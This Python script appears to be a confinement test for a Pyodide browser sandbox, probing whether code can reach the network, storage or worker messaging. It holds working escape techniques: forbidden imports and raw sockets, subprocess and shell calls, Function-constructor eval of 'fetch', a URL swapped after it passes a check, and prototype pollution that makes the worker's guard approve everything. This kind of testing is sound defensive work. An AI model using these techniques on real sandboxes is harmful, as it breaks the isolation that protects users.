"""Looks for a way out of the page: to the network, to the page's storage, to its worker's messages. PORT is put in.

The reader has agreed to one host, agreed.invalid. What gets out says so, or is heard at the port.
"""

import asyncio
import gc
import importlib
import importlib.machinery
import os
import socket
import sys

# The page's own objects are put where no collection looks; whoever wants can take them back.
gc.unfreeze()

PORT = 0
WANTED = {
    "fetch", "XMLHttpRequest", "WebSocket", "WebTransport", "EventSource", "importScripts", "Worker", "SharedWorker",
    "caches", "indexedDB", "BroadcastChannel", "postMessage", "navigator", "location", "localStorage", "FontFace", "close",
}  # fmt: skip
ADDRESS = f"http://127.0.0.1:{PORT}/"


def attempt(what, act):
    try:
        found = act()
    except BaseException as error:
        return error
    print("reached:", what, str(found)[:80])
    return None


def attempt_quietly(act):
    try:
        act()
    except BaseException:
        pass


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"out", ("127.0.0.1", PORT))


def datagram_of_the_systems_own():
    own = importlib.import_module("_socket")
    own.socket(own.AF_INET, own.SOCK_DGRAM).sendto(b"out", ("127.0.0.1", PORT))


def connection_of_the_systems_own():
    importlib.import_module("_socket").socket().connect(("127.0.0.1", PORT))


CLOSED = (
    "js", "pyodide_js", "pyodide", "pyodide.code", "pyodide.http", "pyodide.ffi", "ctypes", "_ctypes", "_pyodide_core", "micropip",
)  # fmt: skip
for name in CLOSED:
    attempt(f"import {name}", lambda: importlib.import_module(name))
    attempt(f"__import__ {name}", lambda: __import__(name, fromlist=["*"]))
    attempt(f"module {name}", lambda: sys.modules[name])
attempt("socket", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1))
attempt("a socket of another class", lambda: connection_of_the_systems_own())
attempt("urllib", lambda: importlib.import_module("urllib.request").urlopen(ADDRESS))
attempt("http.client", lambda: importlib.import_module("http.client").HTTPConnection("127.0.0.1", PORT).request("GET", "/"))
attempt("a process", lambda: importlib.import_module("subprocess").run(["true"], check=True))
attempt("a shell", lambda: 1 / (os.system("true") == 0))
attempt("a fork", lambda: os.fork())


# Nobody says that it went nowhere.
attempt_quietly(datagram)
attempt_quietly(datagram_of_the_systems_own)


def is_foreign(thing):
    return type(thing).__name__ == "JsProxy" or "pyodide" in type(thing).__module__


def lent():
    """What the worker lends to the recorder."""
    return next(thing._waits for thing in gc.get_objects() if type(thing).__name__ == "Page" and hasattr(thing, "_waits"))


def ask(url):
    lent().ask(7, "GET", url, "{}", b"", False)


def lists():
    """JavaScript's own."""
    return lent().constructor.keys(lent()).constructor


def ask_two_faced():
    """An address that is another one when it is looked at again."""
    url = lists().of("http://agreed.invalid/")
    ask(url)
    url[0] = ADDRESS


def yes(*_):
    return True


def change_the_language():
    """Lets the worker's own guard ask objects that say yes to all."""
    of_objects = lent().constructor
    each = getattr(lists(), "from")
    # An object of Python's is lent for one call only; what it inherits stays.
    kinds = each([{1}], of_objects.getPrototypeOf)
    while "toJs" not in list(of_objects.keys(fields := kinds.map(of_objects.getOwnPropertyDescriptors)[0])):
        kinds = kinds.map(of_objects.getPrototypeOf)
    converted = each([{1}], of_objects.constructor.prototype.call.bind(fields.toJs.value))
    sets = converted[0].constructor
    print("found:", sets.name)
    sets.prototype.has = yes
    if sets.prototype.has is yes:
        print("reached: the language")


attempt_quietly(lambda: ask(ADDRESS))
attempt_quietly(ask_two_faced)
attempt_quietly(change_the_language)
attempt_quietly(lambda: ask(ADDRESS))

LOADERS = {"loadScript", "loadPackage", "loadBinaryFile", "readAsync", "loadDynlib", "pyfetch", "run_js"}
SOURCES = ("return fetch", f"return import('{ADDRESS}')", "return globalThis.constructor")
seen = set()


def search(start, start_path):
    """Walks from an object of JavaScript's to all that it leads to."""
    todo = [(start, start_path, 0)]
    while todo and len(seen) < 4_000:
        thing, path, depth = todo.pop()
        try:
            identity, names = (getattr(thing, "js_id", id(thing)), dir(thing))
        except BaseException:
            continue
        if identity in seen:
            continue
        seen.add(identity)
        for source in SOURCES if len(seen) < 40 else ():
            attempt(f"{path}: {source}", lambda: thing.constructor.constructor(source)())
        for name in names:
            try:
                value = getattr(thing, name)
            except BaseException:
                continue
            if not is_foreign(value):
                continue
            # A function of the engine's own or an object: one that is written in JavaScript only has that name.
            if name in WANTED and ("[native code]" in str(value) or not callable(value)):
                print("reached:", f"{path}.{name}")
            if name in LOADERS:
                # Whether it got anywhere, the host that it would ask can tell.
                for address in (ADDRESS, f"{ADDRESS}x-1.0-py3-none-any.whl"):
                    attempt_quietly(lambda: value(address))
            if depth < 4:
                todo.append((value, f"{path}.{name}", depth + 1))


def frames():
    frame = sys._getframe()
    while frame is not None:
        yield from frame.f_locals.values()
        yield from frame.f_globals.values()
        frame = frame.f_back


found = [thing for thing in gc.get_objects() if is_foreign(thing) and not isinstance(thing, type)]
found += [thing for thing in frames() if is_foreign(thing) and not isinstance(thing, type)]
for trace in [thing for thing in gc.get_objects() if type(thing).__name__ == "Streamed"]:
    found.append(trace._send)
for namespace in [thing for thing in gc.get_objects() if type(thing) is dict]:
    found += [thing for thing in namespace.values() if is_foreign(thing) and not isinstance(thing, type)]
for module in ("_pyodide_core", "_pyodide"):
    for importer in (importlib.machinery.BuiltinImporter, importlib.machinery.FrozenImporter):
        try:
            loaded = importer.load_module(module)
        except BaseException:
            continue
        found += [thing for thing in vars(loaded).values() if is_foreign(thing) and not isinstance(thing, type)]
    attempt_quietly(lambda: search(sys.modules["_imp"].create_builtin(importlib.machinery.ModuleSpec(module, None)), module))
for number, thing in enumerate(found):
    search(thing, f"object {number}")
print("objects found:", bool(found), "walked:", len(seen) > 100)


async def main():
    try:
        await asyncio.open_connection("127.0.0.1", PORT)
        print("reached: a connection of asyncio")
    except BaseException as error:
        print(type(error).__name__)
    # What was sent has the time to arrive.
    await asyncio.sleep(0.5)


asyncio.run(main())
